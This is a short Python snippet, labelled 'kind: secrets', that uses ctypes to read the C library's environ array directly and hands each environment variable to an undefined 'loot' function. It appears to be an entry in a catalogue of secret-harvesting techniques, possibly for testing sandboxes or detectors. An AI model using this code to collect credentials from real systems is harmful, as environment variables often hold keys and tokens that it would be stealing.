# kind: secrets
# tries: The C library's environment

import ctypes

at = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
n = 0
while at and at[n]:
    loot(at[n].decode("latin-1"))
    n += 1
